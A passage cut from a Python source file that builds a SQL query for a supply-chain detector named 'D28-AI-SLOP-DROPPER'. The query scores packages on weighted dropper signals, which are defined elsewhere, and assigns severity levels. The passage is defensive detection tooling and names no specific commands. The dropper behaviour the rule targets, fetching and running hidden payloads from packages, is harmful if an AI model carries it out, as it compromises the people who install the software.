z AS (SELECT package, CAST(least(100, {' + '.join(f'{n}::INT * {X.DROPPER[n]}' for n in _IN_ORDER)}) AS INT) AS score, concat_ws(',', {', '.join(f"CASE WHEN {n} THEN '{n}' END" for n in _IN_ORDER)}) AS signals FROM g WHERE {' OR '.join(X.DROPPER_ANCHORS)})
SELECT package, 'D28-AI-SLOP-DROPPER' AS detector, score, signals, false AS approx, CASE WHEN score >= 80 THEN 'critical' ELSE 'high' END AS severity FROM z WHERE score >= 55"""
